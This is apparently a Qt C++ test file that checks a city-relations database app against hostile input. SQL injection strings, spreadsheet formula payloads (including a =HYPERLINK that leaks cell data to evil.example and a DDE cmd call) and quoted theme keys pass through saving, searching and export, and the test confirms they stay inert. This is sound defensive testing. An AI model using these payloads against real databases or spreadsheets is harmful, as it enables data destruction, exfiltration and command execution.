// SPDX-License-Identifier: GPL-3.0-or-later
// Hostile text all the way through: a city named Robert'); DROP TABLE actors;--, names and notes that a spreadsheet
// would run as formulas (=HYPERLINK(...), -1+2, @SUM, +1, tab- and CR-prefixed) and a theme whose key holds quotes go
// through an edit, save, load, search and export unchanged: the tables are all still there, search finds the exact
// names, the CSV export neutralises every formula-like cell with a leading apostrophe, and the XLSX export (read back
// through core/io's XlsxReader) keeps the text exactly, as text cells, never as formulas. (Names are trimmed when
// saved, so tab-prefixed cells only reach the writers from notes.)
#include "editing/ActorEdit.h"
#include "editing/InterestEdit.h"
#include "exporting/Exporter.h"
#include "exporting/FormulaGuard.h"
#include "io/CsvReader.h"
#include "io/XlsxReader.h"
#include "io/ZipArchive.h"
#include "storage/SqliteWorkspaceStore.h"
#include "workspace/SampleImporter.h"
#include "workspace/WorkspaceData.h"

#include <QBuffer>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QtTest>

using namespace cb;

namespace {

const QString kRobert = QStringLiteral("Robert'); DROP TABLE actors;--");
const QString kHyperlink = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"洛阳\")");
const QString kMinus = QStringLiteral("-1+2");
const QString kAt = QStringLiteral("@SUM(A1:A9)");
const QString kPlus = QStringLiteral("+1 Henan");
const QString kQuotedTheme = QStringLiteral("+cmd it's \"quoted\"");
const QString kCr = QStringLiteral("\r=cmd|' /C calc'!A0");
const QString kTab = QStringLiteral("\t=1+1 said the mayor");
const QString kUpdate = QStringLiteral("x'; UPDATE actors SET kind = 'gone';--");
const QString kThemeKey = QStringLiteral("it's \"quoted\"; DELETE FROM themes;--");

QList<QStringList> readTable(const QByteArray& bytes, bool xlsx, int sheet = 0)
{
    QBuffer buffer;
    buffer.setData(bytes);
    buffer.open(QIODevice::ReadOnly);
    std::unique_ptr<TableReader> reader;
    if (xlsx)
        reader = std::make_unique<XlsxReader>(&buffer);
    else
        reader = std::make_unique<CsvReader>(&buffer);
    QList<QStringList> rows;
    if (!reader->open() || !reader->read(sheet, -1, &rows))
        qWarning("cannot read back the export: %s", qPrintable(reader->errorString()));
    return rows;
}

QStringList rowWith(const QList<QStringList>& rows, int column, const QString& value)
{
    for (const QStringList& row : rows) {
        if (row.value(column) == value)
            return row;
    }
    return {};
}

/** What a CSV cell must hold for text: a formula-like one behind an apostrophe, anything else as it is. */
QString csvExpected(const QString& text)
{
    return formulaguard::isFormulaLike(text) ? QLatin1Char('\'') + text : text;
}

} // namespace

class TestHostileData : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void editSaveLoadSearch();
    void exportsNeutraliseFormulas_data();
    void exportsNeutraliseFormulas();

private:
    QByteArray exportBytes(ExportDataset dataset, ExportFormat format);

    QTemporaryDir m_dir;
    std::unique_ptr<SqliteWorkspaceStore> m_store;
    WorkspaceData m_data;
    ActorId m_hostile = 0;
    qint64 m_interest = 0;
    qint64 m_tabInterest = 0;
    qint64 m_actorsBefore = 0;
};

void TestHostileData::initTestCase()
{
    QVERIFY(m_dir.isValid());
    QString error;
    m_store = SqliteWorkspaceStore::create(m_dir.filePath(QStringLiteral("hostile.citybridge")), &error);
    QVERIFY2(m_store, qPrintable(error));
    QVERIFY2(importSampleJson(*m_store, QStringLiteral(":/sample"), &error), qPrintable(error));
    QVERIFY2(loadWorkspace(*m_store, &m_data, &error), qPrintable(error));
    m_actorsBefore = qint64(m_data.actors.size());
}

void TestHostileData::editSaveLoadSearch()
{
    QString error;
    const Actor* model = nullptr;
    for (const Actor& a : m_data.actors) {
        if (a.kind == ActorKind::City) {
            model = &a;
            break;
        }
    }
    QVERIFY(model);
    const ActorId partner = model->id;
    const QString country = model->countryCode; // m_data is reloaded below: keep copies, not the pointer

    // A theme whose key and names hold quotes and formula starts.
    Theme theme;
    theme.key = kThemeKey;
    theme.names =
        LocalizedText{{lang::En, kQuotedTheme}, {lang::Zh, QStringLiteral("主题 \"引号\" '单'")}, {lang::Es, kAt}};
    QVERIFY2(m_store->inTransaction([&](QString* e) { return m_store->catalog().saveTheme(theme, e); }, &error),
             qPrintable(error));

    // Added through the same edit the editor uses.
    Actor city;
    city.kind = ActorKind::City;
    city.uid = QStringLiteral("city:robert'); drop table actors;--");
    city.countryCode = country;
    city.names = LocalizedText{{lang::En, kRobert}, {lang::Zh, kHyperlink}, {lang::Es, kMinus}};
    city.names.set(lang::Native, kAt);
    city.aliases = {{QStringLiteral("+1 (555) 0100"), QString()}, {kUpdate, QString()}};
    city.city.adminRegion = kPlus;
    city.city.latitude = 10.5;
    city.city.longitude = 20.25;
    auto add = ActorEdit::add(city, QStringLiteral("add"));
    QVERIFY2(m_store->inTransaction([&](QString* e) { return add->apply(*m_store, e); }, &error), qPrintable(error));
    m_hostile = add->actorId();
    QVERIFY(m_hostile > 0);

    // Edited: an update through ActorEdit with another hostile name.
    QVERIFY2(loadWorkspace(*m_store, &m_data, &error), qPrintable(error));
    Actor changed = *m_data.actor(m_hostile);
    changed.names.set(lang::Es, kUpdate);
    auto update = ActorEdit::update(changed, QStringLiteral("update"));
    QVERIFY2(m_store->inTransaction([&](QString* e) { return update->apply(*m_store, e); }, &error), qPrintable(error));
    changed.names.set(lang::Es, kMinus);
    QVERIFY2(loadWorkspace(*m_store, &m_data, &error), qPrintable(error));
    changed.version = m_data.actor(m_hostile)->version;
    auto back = ActorEdit::update(changed, QStringLiteral("update back"));
    QVERIFY2(m_store->inTransaction([&](QString* e) { return back->apply(*m_store, e); }, &error), qPrintable(error));

    // An interest with a CR-prefixed note, on the hostile theme.
    Interest interest;
    interest.fromActorId = m_hostile;
    interest.toActorId = partner;
    interest.strength = 0.5;
    interest.themeIds = {theme.id};
    interest.date = QDate(2024, 5, 1);
    interest.note = kCr;
    QVERIFY2(loadWorkspace(*m_store, &m_data, &error), qPrintable(error));
    QVERIFY(!m_data.sources.isEmpty());
    interest.sourceId = m_data.sources.first().id;
    auto addInterest = InterestEdit::add(interest, m_data, QStringLiteral("interest"));
    QVERIFY2(m_store->inTransaction([&](QString* e) { return addInterest->apply(*m_store, e); }, &error),
             qPrintable(error));
    // A second one, towards a country, with a tab-prefixed note.
    Interest towardsCountry = interest;
    towardsCountry.toActorId = 0;
    towardsCountry.toCountry = country;
    towardsCountry.themeIds.clear();
    towardsCountry.note = kTab;
    QVERIFY2(loadWorkspace(*m_store, &m_data, &error), qPrintable(error));
    auto addSecond = InterestEdit::add(towardsCountry, m_data, QStringLiteral("interest"));
    QVERIFY2(m_store->inTransaction([&](QString* e) { return addSecond->apply(*m_store, e); }, &error),
             qPrintable(error));

    // Loaded again from the file: every text exactly as written, nothing dropped or run.
    m_store.reset();
    m_store = SqliteWorkspaceStore::open(m_dir.filePath(QStringLiteral("hostile.citybridge")), &error);
    QVERIFY2(m_store, qPrintable(error));
    QVERIFY2(loadWorkspace(*m_store, &m_data, &error), qPrintable(error));
    QCOMPARE(qint64(m_data.actors.size()), m_actorsBefore + 1);
    const Actor* loaded = m_data.actor(m_hostile);
    QVERIFY(loaded);
    QCOMPARE(loaded->uid, city.uid);
    QCOMPARE(loaded->kind, ActorKind::City);
    QCOMPARE(loaded->names.exact(lang::En), kRobert);
    QCOMPARE(loaded->names.exact(lang::Zh), kHyperlink);
    QCOMPARE(loaded->names.exact(lang::Es), kMinus);
    QCOMPARE(loaded->names.exact(lang::Native), kAt);
    QCOMPARE(loaded->city.adminRegion, kPlus);
    QCOMPARE(loaded->aliases.size(), 2);
    QCOMPARE(loaded->aliases.at(1).text, kUpdate);
    bool themeFound = false;
    for (const Theme& t : m_data.themes) {
        if (t.id == theme.id) {
            themeFound = true;
            QCOMPARE(t.key, kThemeKey);
            QCOMPARE(t.names.exact(lang::En), kQuotedTheme);
        }
    }
    QVERIFY(themeFound);
    bool interestFound = false;
    for (const Interest& i : m_data.interests) {
        if (i.fromActorId == m_hostile && i.toActorId == partner) {
            interestFound = true;
            m_interest = i.id;
            QCOMPARE(i.note, kCr);
            QCOMPARE(i.themeIds, QList<ThemeId>{theme.id});
        } else if (i.fromActorId == m_hostile) {
            m_tabInterest = i.id;
            QCOMPARE(i.note, kTab);
        }
    }
    QVERIFY(interestFound);
    QVERIFY(m_tabInterest > 0);
    // Every table is still there and no row changed kind.
    QSqlQuery check(m_store->database().connection());
    QVERIFY(check.exec(QStringLiteral("SELECT count(*) FROM actors WHERE kind NOT IN ('city', 'institution')")));
    QVERIFY(check.next());
    QCOMPARE(check.value(0).toInt(), 0);
    QVERIFY(check.exec(QStringLiteral("PRAGMA integrity_check")) && check.next());
    QCOMPARE(check.value(0).toString(), QStringLiteral("ok"));

    // Search finds the exact names (and nothing else for them).
    QCOMPARE(m_store->actors().findByName(kRobert), QList<ActorId>{m_hostile});
    QCOMPARE(m_store->actors().findByName(kUpdate), QList<ActorId>{m_hostile});
    QVERIFY(m_store->actors().searchByPrefix(QStringLiteral("Robert'); DROP"), 10).contains(m_hostile));
    QVERIFY(m_store->actors().searchByPrefix(QStringLiteral("'; DROP TABLE actors;--"), 10).isEmpty());
}

QByteArray TestHostileData::exportBytes(ExportDataset dataset, ExportFormat format)
{
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    ExportOptions options;
    options.language = lang::En;
    Exporter exporter(m_data, options);
    if (!exporter.write(&buffer, dataset, format))
        qWarning("export failed: %s", qPrintable(exporter.errorString()));
    return bytes;
}

void TestHostileData::exportsNeutraliseFormulas_data()
{
    QTest::addColumn<bool>("xlsx");
    QTest::newRow("csv") << false;
    QTest::newRow("xlsx") << true;
}

void TestHostileData::exportsNeutraliseFormulas()
{
    QFETCH(bool, xlsx);
    QVERIFY2(m_hostile > 0 && m_interest > 0, "editSaveLoadSearch must run first");
    const ExportFormat format = xlsx ? ExportFormat::Xlsx : ExportFormat::Csv;
    auto expect = [xlsx](const QString& text) { return xlsx ? text : csvExpected(text); };

    // Cities: id, uid, name, name_en, name_zh, name_es, name_native, country_code, country, region, ...
    const QByteArray cities = exportBytes(ExportDataset::Cities, format);
    QVERIFY(!cities.isEmpty());
    const QStringList city = rowWith(readTable(cities, xlsx), 0, QString::number(m_hostile));
    QVERIFY2(!city.isEmpty(), "the hostile city is not in the export");
    QCOMPARE(city.value(1), QStringLiteral("city:robert'); drop table actors;--"));
    QCOMPARE(city.value(2), kRobert); // not formula-like: unchanged even in CSV
    QCOMPARE(city.value(3), kRobert);
    QCOMPARE(city.value(4), expect(kHyperlink));
    QCOMPARE(city.value(5), expect(kMinus));
    QCOMPARE(city.value(6), expect(kAt));
    QCOMPARE(city.value(9), expect(kPlus));
    if (!xlsx) {
        QVERIFY(city.value(4).startsWith(QLatin1String("'=")));
        QVERIFY(city.value(5).startsWith(QLatin1String("'-")));
        QVERIFY(city.value(6).startsWith(QLatin1String("'@")));
        QVERIFY(city.value(9).startsWith(QLatin1String("'+")));
    }

    // Interests: ..., themes (8), ..., note (11).
    const QByteArray interests = exportBytes(ExportDataset::Interests, format);
    const QStringList interest = rowWith(readTable(interests, xlsx), 0, QString::number(m_interest));
    QVERIFY2(!interest.isEmpty(), "the interest is not in the export");
    QCOMPARE(interest.value(1), kRobert);
    QCOMPARE(interest.value(8), expect(kQuotedTheme));
    if (xlsx) {
        QCOMPARE(interest.value(11), kCr);
    } else {
        // The CSV reader reads a CR inside a quoted field as a line break; the bytes hold it as written.
        QVERIFY(interest.value(11).startsWith(QLatin1String("'")));
        QVERIFY(QString::fromUtf8(interests).contains(QLatin1Char('"') + csvExpected(kCr) + QLatin1Char('"')));
    }
    const QStringList tabbed = rowWith(readTable(interests, xlsx), 0, QString::number(m_tabInterest));
    QCOMPARE(tabbed.value(11), expect(kTab));
    if (!xlsx) {
        QVERIFY(tabbed.value(11).startsWith(QLatin1String("'\t")));
        QVERIFY(interest.value(8).startsWith(QLatin1String("'+")));
        return;
    }
    // XLSX: the cells are text (shared strings); no sheet holds a formula element.
    for (const QByteArray& bytes : {cities, interests}) {
        QBuffer device;
        device.setData(bytes);
        QVERIFY(device.open(QIODevice::ReadOnly));
        ZipArchive zip(&device);
        QVERIFY2(zip.open(), qPrintable(zip.errorString()));
        int sheets = 0;
        for (const ZipEntry& member : zip.entries()) {
            const QString entry = member.name;
            if (!entry.startsWith(QLatin1String("xl/worksheets/")))
                continue;
            QByteArray xml;
            QVERIFY(zip.readEntry(entry, &xml));
            QVERIFY2(!xml.contains("<f>") && !xml.contains("<f "), qPrintable(entry));
            ++sheets;
        }
        QVERIFY(sheets >= 1);
    }
}

QTEST_GUILESS_MAIN(TestHostileData)
#include "tst_hostiledata.moc"
